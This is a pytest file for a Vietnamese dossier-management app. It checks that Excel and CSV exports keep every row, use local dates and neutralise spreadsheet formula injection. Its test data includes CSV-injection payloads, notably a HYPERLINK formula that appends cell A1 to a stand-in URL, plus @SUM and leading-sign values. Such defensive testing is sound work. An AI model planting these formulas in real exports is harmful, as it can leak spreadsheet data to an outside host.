"""Excel out (issue 9): the dossier list, a campaign's results and the audit log as XLSX and CSV — Vietnamese
headers and labels, Vietnam's dates, as many rows as the list counts, and no cell a spreadsheet would run as a
formula (=, +, -, @)."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import func, select

from models import AuditEvent, Dossier
from states.enums import State, Trigger
from workflow.extensions import db
from workflow.services.dossiers import apply_transition

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+84 912 345 678", "-1+1", "@SUM(A1:A9)"]


def sheet(response) -> list[list]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    data = response.data
    response.close()  # the server closes (and so removes) the spooled file once sent
    book = load_workbook(io.BytesIO(data), read_only=True)
    rows = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    book.close()
    return rows


def table(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel reads the diacritics right
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def hostile_world(world):
    """Dossiers whose names a spreadsheet would run as formulas, and a comment that is one."""
    made = [world.dossier(State.REGISTERED, subject_name=name) for name in HOSTILE]
    made.append(world.dossier(State.RECOGNIZED, subject_name="Hộ bà Trần Thị Dung"))
    apply_transition(world.users["group_committee"], made[0], Trigger.REJECT_REGISTRATION, made[0].version,
                     "=HYPERLINK(\"http://x.example\")")
    db.session.commit()
    return made


def assert_neutral(cells):
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@")), value


def test_the_dossier_list_as_excel_holds_every_row_the_list_counts(client, auth, world):
    made = hostile_world(world)
    auth.login("ward_inspector")
    rows = sheet(client.get("/dossiers/export?format=xlsx"))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["STT", "Mã hồ sơ", "Họ và tên / Tên hộ", "Số định danh cá nhân", "Tổ dân phố"]
    # never "Số hộ khẩu": the household book was abolished in 2023
    assert "Trạng thái" in header and "Danh hiệu" in header
    listed = db.session.scalar(select(func.count(Dossier.id)))  # the inspector's ward sees them all
    assert len(body) == listed and [r[0] for r in body] == list(range(1, listed + 1))
    names = [r[2] for r in body]
    for name in HOSTILE:
        assert "'" + name in names  # kept, but as text
    assert_neutral(cell for row in body for cell in row)
    states = {r[header.index("Trạng thái")] for r in body}
    assert "Đã công nhận" in states and "Không chấp nhận đăng ký" in states  # labels, not codes
    assert any(d.tracking_code in [r[1] for r in body] for d in made)


def test_the_list_export_honours_the_filters_and_the_scope(client, auth, world):
    hostile_world(world)
    other = world.dossier(State.REGISTERED, group="G2", subject_name="Hộ ông Ở Tổ Hai")
    auth.login("group_committee")
    body = table(client.get("/dossiers/export?format=csv&state=registered"))[1:]
    in_scope = db.session.scalar(select(func.count(Dossier.id)).where(
        Dossier.state == "registered", Dossier.unit_id == world.units["G1"].id))
    assert len(body) == in_scope and other.subject_name not in {r[2] for r in body}
    assert client.get("/dossiers/export?format=pdf").status_code == 400
    assert client.get("/dossiers/export?unit_id=abc").status_code == 422


def test_a_campaigns_results_list(client, auth, world):
    made = hostile_world(world)
    auth.login("chairman")
    rows = sheet(client.get(f"/dossiers/results?campaign_id={world.campaign.id}&format=xlsx"))
    assert rows[0] == ["STT", "Họ và tên / Tên hộ", "Tổ dân phố", "Danh hiệu", "Kết quả", "Số quyết định", "Ngày ký"]
    by_name = {r[1]: r for r in rows[1:]}
    recognized = by_name["Hộ bà Trần Thị Dung"]
    assert recognized[4] == "Được công nhận" and recognized[5] == made[-1].decision.number
    assert recognized[6] == made[-1].decision.signed_on.strftime("%d/%m/%Y")  # Vietnam's dd/mm/yyyy
    assert by_name["'" + HOSTILE[0]][4] == "Không chấp nhận đăng ký"
    assert by_name["'" + HOSTILE[1]][4].startswith("Đang xét")
    assert len(rows) - 1 == db.session.scalar(select(func.count(Dossier.id)).where(
        Dossier.campaign_id == world.campaign.id))
    assert client.get("/dossiers/results?format=xlsx").status_code == 422  # which campaign?


def test_the_audit_log_as_excel_and_csv_in_vietnamese_and_local_time(client, auth, world, api):
    made = hostile_world(world)
    auth.login("auditor")
    rows = sheet(client.get(f"/audit/events.csv?format=xlsx&dossier_id={made[0].id}"))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["Thời gian (giờ Việt Nam)", "Hồ sơ"] and "Sự kiện" in header and "Mã băm" in header
    assert len(body) == db.session.scalar(select(func.count(AuditEvent.id)).where(
        AuditEvent.dossier_id == made[0].id))
    events = [r[header.index("Sự kiện")] for r in body]
    assert "Từ chối đăng ký" in events or any("đăng ký" in (e or "").lower() for e in events)
    assert_neutral(cell for row in body for cell in row)
    comments = [r[header.index("Ghi chú")] for r in body if r[header.index("Ghi chú")]]
    assert "'=HYPERLINK(\"http://x.example\")" in comments
    first = db.session.scalars(select(AuditEvent).where(AuditEvent.dossier_id == made[0].id)
                               .order_by(AuditEvent.seq)).first()
    from workflow.filters import local_datetime

    assert body[0][0] == local_datetime(first.at)  # the ward's clock, not UTC
    exported = api.as_("auditor").get(f"/audit/events?format=csv&dossier_id={made[0].id}")
    assert len(table(exported)) == len(rows)
    assert sheet(api.as_("auditor").get(f"/audit/events?format=xlsx&dossier_id={made[0].id}")) == rows


def test_the_api_exports_what_the_list_shows(api, world):
    hostile_world(world)
    inspector = api.as_("ward_inspector")
    listed = inspector.get("/dossiers?limit=500&state=registered").get_json()["items"]
    rows = sheet(inspector.get("/dossiers?format=xlsx&state=registered"))
    assert len(rows) - 1 == len(listed)
    assert sorted(r[1] for r in rows[1:]) == sorted(d["tracking_code"] for d in listed)
    assert inspector.get("/dossiers?format=docx").status_code == 422
